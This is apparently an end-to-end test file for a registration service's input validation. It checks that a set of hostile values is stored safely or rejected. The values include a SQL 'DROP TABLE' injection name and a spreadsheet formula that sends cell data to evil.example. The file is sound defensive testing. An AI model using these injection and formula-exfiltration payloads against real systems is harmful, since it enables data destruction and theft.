"""G5: hostile input is rejected with a clear error or stored verbatim; the service serves on."""

import json

import httpx
import pytest

from tests.support import factories as f
from tests.support.auth import READER, sender
from tests.support.http import http_client
from tests.support.stack import Stack

pytestmark = pytest.mark.e2e


async def _post(stack: Stack, body: bytes) -> httpx.Response:
    async with http_client(timeout=30, headers=READER) as client:
        return await client.post(
            f"{stack.url('registration')}/v1/events",
            content=body,
            headers={"content-type": "application/json", **sender()},
        )


async def test_sql_metacharacters_are_stored_verbatim(stack: Stack, client: httpx.AsyncClient) -> None:
    uscc = f.new_uscc()
    name = 'Robert\'); DROP TABLE enterprises;-- "有限公司" %_\\'
    r = await _post(stack, json.dumps(f.enterprise(uscc, name=name)).encode())
    assert r.status_code == 202
    stored = (await client.get(f"{stack.url('registration')}/v1/enterprises/{uscc}")).json()
    assert stored["name"] == name


@pytest.mark.parametrize(
    ("patch", "loc", "msg"),
    [
        ({"name": "a\x00b"}, "data.name", "Value error, must not contain control characters"),
        ({"name": "x\x1b[31mred"}, "data.name", "Value error, must not contain control characters"),
        ({"name": "长" * 10_000}, "data.name", "String should have at most 500 characters"),
        ({"employees": 10**12}, "data.employees", "Input should be less than or equal to 10000000"),
        ({"employees": -5}, "data.employees", "Input should be greater than or equal to 0"),
        ({"employees": 1.5}, "data.employees", "Input should be a valid integer"),
        ({"college_student_founders": True}, "data.college_student_founders", "Input should be a valid integer"),
        ({"registered_on": "2015-13-01"}, "data.registered_on", "Value error, month must be in 1..12"),
        ({"size": "\u202emicro"}, "data.size", "Input should be 'small' or 'micro'"),
    ],
)
async def test_hostile_values_get_field_errors(stack: Stack, patch: dict[str, object], loc: str, msg: str) -> None:
    event = f.enterprise(f.new_uscc())
    event["data"].update(patch)
    r = await _post(stack, json.dumps(event).encode())
    assert (r.status_code, r.json()) == (
        422,
        {
            "error_code": "INVALID_DATA",
            "message": "EnterpriseRegistered data is invalid",
            "errors": [{"loc": loc, "msg": msg}],
        },
    )


async def test_five_megabyte_body_and_deep_nesting_are_rejected_and_service_keeps_serving(
    stack: Stack, client: httpx.AsyncClient
) -> None:
    big = await _post(stack, b"[" * 10 + b"0" * (5 << 20))
    assert big.status_code == 413
    deep = await _post(stack, b"[" * 100_000 + b"]" * 100_000)
    assert deep.status_code == 422 and deep.json()["error_code"] in {"MALFORMED_JSON", "INVALID_ENVELOPE"}
    not_object = await _post(stack, b'"just a string"')
    assert (not_object.status_code, not_object.json()["error_code"]) == (422, "INVALID_ENVELOPE")
    ok = await _post(stack, json.dumps(f.enterprise(f.new_uscc())).encode())
    assert ok.status_code == 202
    assert (await client.get(f"{stack.url('registration')}/healthz")).status_code == 200


async def test_a_formula_like_name_is_refused_at_intake_with_its_code(stack: Stack) -> None:
    uscc = f.new_uscc()
    name = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    r = await _post(stack, json.dumps(f.enterprise(uscc, name=name)).encode())
    assert r.status_code == 422
    assert r.json() == {
        "error_code": "FORMULA_LIKE_NAME",
        "message": f"name {name[:40]!r} begins with '=', which a spreadsheet runs as a formula",
        "errors": [{"loc": "data.name", "msg": "must not begin with =, +, -, @, a tab or a carriage return"}],
    }
